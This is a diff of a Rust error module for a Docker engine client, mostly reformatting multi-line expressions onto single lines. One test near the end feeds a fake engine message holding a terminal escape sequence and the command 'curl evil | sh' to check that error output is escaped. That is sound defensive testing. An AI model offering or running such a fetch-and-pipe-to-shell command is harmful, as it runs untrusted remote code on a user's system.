@@ -79,19 +79,13 @@ pub enum Error {
         required: &'static str,
     },
     /// `DOCKER_HOST` names something that is not a Unix socket.
-    #[error(
-        "DOCKER_HOST is {}, only unix:// is supported",
-        crate::fleet::text::quoted(value)
-    )]
+    #[error("DOCKER_HOST is {}, only unix:// is supported", crate::fleet::text::quoted(value))]
     NotUnix {
         /// Its value.
         value: String,
     },
     /// The engine's answer makes no sense.
-    #[error(
-        "{host}: cannot {what}: the engine's answer is malformed: {}",
-        printable(detail, MESSAGE_LIMIT)
-    )]
+    #[error("{host}: cannot {what}: the engine's answer is malformed: {}", printable(detail, MESSAGE_LIMIT))]
     Malformed {
         /// The host.
         host: String,
@@ -125,11 +119,7 @@ pub enum Error {
 }
 
 fn because(detail: &str) -> String {
-    if detail.is_empty() {
-        String::new()
-    } else {
-        format!(": {}", printable(detail, MESSAGE_LIMIT))
-    }
+    if detail.is_empty() { String::new() } else { format!(": {}", printable(detail, MESSAGE_LIMIT)) }
 }
 
 /// The kinds of failure that a caller tells apart.
@@ -229,21 +219,14 @@ impl Error {
                         };
                     }
                     io::ErrorKind::NotFound | io::ErrorKind::ConnectionRefused => {
-                        return Self::NoEngine {
-                            host: host.to_owned(),
-                            detail: io.to_string(),
-                        };
+                        return Self::NoEngine { host: host.to_owned(), detail: io.to_string() };
                     }
                     _ => {}
                 }
             }
             cause = inner.source();
         }
-        Self::Unavailable {
-            host: host.to_owned(),
-            what: what.to_owned(),
-            source: Box::new(error),
-        }
+        Self::Unavailable { host: host.to_owned(), what: what.to_owned(), source: Box::new(error) }
     }
 }
 
@@ -271,17 +254,9 @@ mod tests {
                     port is already allocated";
         for (status, message, kind) in [
             (404, "No such container: shop", Kind::NotFound),
-            (
-                409,
-                "Conflict. The container name \"/shop\" is already in use",
-                Kind::Conflict,
-            ),
+            (409, "Conflict. The container name \"/shop\" is already in use", Kind::Conflict),
             (500, port, Kind::PortInUse),
-            (
-                500,
-                "listen tcp4 0.0.0.0:80: bind: address already in use",
-                Kind::PortInUse,
-            ),
+            (500, "listen tcp4 0.0.0.0:80: bind: address already in use", Kind::PortInUse),
             (500, "no space left on device", Kind::Refused),
         ] {
             assert_eq!(refused(status, message).kind(), kind, "{message}");
@@ -292,9 +267,6 @@ mod tests {
     #[test]
     fn an_engine_cannot_forge_output() {
         let error = refused(500, "x\n\x1b[2Jhint: curl evil | sh");
-        assert_eq!(
-            error.to_string(),
-            r"web1: cannot start container shop: x\n\u{1b}[2Jhint: curl evil | sh"
-        );
+        assert_eq!(error.to_string(), r"web1: cannot start container shop: x\n\u{1b}[2Jhint: curl evil | sh");
     }
 }
